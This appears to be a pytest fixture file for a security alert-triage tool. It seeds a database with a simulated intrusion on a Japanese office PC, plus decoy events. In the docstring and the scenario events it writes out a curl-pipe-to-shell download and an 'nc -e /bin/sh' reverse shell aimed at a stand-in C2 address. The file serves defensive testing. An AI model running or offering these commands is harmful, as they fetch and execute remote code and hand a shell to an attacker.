"""A real SqliteStore seeded with a realistic download-and-execute intrusion on a staff PC.

Host ``pc-soumu-012`` (総務課 staff PC, internet segment):

    systemd(1) ─ sshd(812) ─ sshd(2000) ─ bash(2001, tanaka)
        └ sh -c "curl -fsSL http://198.51.100.23/x.sh | sh"   (2002)  ← the alert
            ├ curl (2003)  → 198.51.100.23:80
            └ sh (2004)
                └ nc -e /bin/sh 198.51.100.23 4444 (2005) → 198.51.100.23:4444

Noise: an unrelated cron job, an old process that had pid 2002 two days earlier, a first
contact with 198.51.100.23 three days earlier, and a second host doing similar things.
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from agents.schema import get_path
from collector.models import Alert
from collector.store.sqlite import SqliteStore
from tests.conftest import build_event

T0 = datetime(2026, 11, 26, 1, 0, tzinfo=UTC)  # 10:00 JST
HOST = "pc-soumu-012"
HOST_IP = "10.20.1.12"
C2 = "198.51.100.23"
DOWNLOAD_RULE = "3b894cb9-e843-49a3-bd3e-48d06763698b"


def ts(minutes: float) -> str:
    return (T0 + timedelta(minutes=minutes)).strftime("%Y-%m-%dT%H:%M:%S.%fZ")


def proc(
    minutes: float,
    pid: int,
    ppid: int,
    executable: str,
    command_line: str,
    *,
    user: str = "tanaka",
    host: str = HOST,
    parent_name: str | None = None,
) -> dict[str, Any]:
    fields: dict[str, Any] = {
        "process__pid": pid,
        "process__parent__pid": ppid,
        "process__executable": executable,
        "process__name": executable.rsplit("/", 1)[-1],
        "process__command_line": command_line,
        "user__name": user,
    }
    if parent_name:
        fields["process__parent__name"] = parent_name
    return build_event(
        "process_start",
        agent_id=f"agent-{host}",
        host=host,
        host_ip=HOST_IP,
        timestamp=ts(minutes),
        **fields,
    )


def conn(
    minutes: float, pid: int, name: str, ip: str, port: int, *, host: str = HOST
) -> dict[str, Any]:
    return build_event(
        "network_connection",
        agent_id=f"agent-{host}",
        host=host,
        host_ip=HOST_IP,
        timestamp=ts(minutes),
        process__pid=pid,
        process__name=name,
        source__ip=HOST_IP,
        destination__ip=ip,
        destination__port=port,
    )


def scenario_events() -> dict[str, dict[str, Any]]:
    return {
        "old_2002": proc(-2 * 24 * 60, 2002, 1, "/usr/bin/updatedb", "updatedb", user="root"),
        "first_contact": conn(-3 * 24 * 60, 3100, "firefox", C2, 443),
        "sshd": proc(
            -60, 2000, 812, "/usr/sbin/sshd", "sshd: tanaka [priv]", user="root", parent_name="sshd"
        ),
        "bash": proc(-30, 2001, 2000, "/usr/bin/bash", "-bash"),
        "cron": proc(-1, 3000, 1, "/usr/sbin/cron", "/usr/sbin/cron -f", user="root"),
        "alert": proc(0, 2002, 2001, "/usr/bin/sh", f"sh -c curl -fsSL http://{C2}/x.sh | sh"),
        "curl": proc(0.01, 2003, 2002, "/usr/bin/curl", f"curl -fsSL http://{C2}/x.sh"),
        "curl_conn": conn(0.02, 2003, "curl", C2, 80),
        "sh": proc(0.03, 2004, 2002, "/usr/bin/sh", "sh"),
        "nc": proc(0.5, 2005, 2004, "/usr/bin/nc", f"nc -e /bin/sh {C2} 4444"),
        "nc_conn": conn(0.51, 2005, "nc", C2, 4444),
        "dns": conn(0.6, 900, "systemd-resolved", "10.0.0.53", 53),
        "late": proc(45, 2006, 2004, "/usr/bin/id", "id"),  # outside a 10m window
        "other_host": proc(0.2, 2003, 2002, "/usr/bin/curl", "curl x", host="pc-zaimu-003"),
    }


@pytest.fixture
def store(tmp_path: Path) -> Iterator[SqliteStore]:
    s = SqliteStore(tmp_path / "sekimori.db")
    yield s
    s.close()


@pytest.fixture
def events() -> dict[str, dict[str, Any]]:
    return scenario_events()


def make_alert(
    event: dict[str, Any],
    *,
    alert_id: str = "al-0001",
    rule_id: str = DOWNLOAD_RULE,
    tags: tuple[str, ...] = ("attack.execution", "attack.t1059.004", "attack.command_and_control"),
    event_ids: tuple[str, ...] | None = None,
) -> Alert:
    at = datetime.fromisoformat(str(event["@timestamp"]).replace("Z", "+00:00"))
    return Alert(
        id=alert_id,
        rule_id=rule_id,
        title="Download Piped Into a Shell or Interpreter",
        level="high",
        tags=tags,
        host=HOST,
        zone="internet",
        entity=HOST,
        count=1,
        first_seen=at,
        last_seen=at,
        event_ids=(str(get_path(event, "event.id")),) if event_ids is None else event_ids,
    )


@pytest.fixture
def seeded(store: SqliteStore, events: dict[str, dict[str, Any]]) -> tuple[SqliteStore, Alert]:
    store.write_events(list(events.values()))
    alert = make_alert(events["alert"])
    store.upsert_alert(alert)
    return store, alert
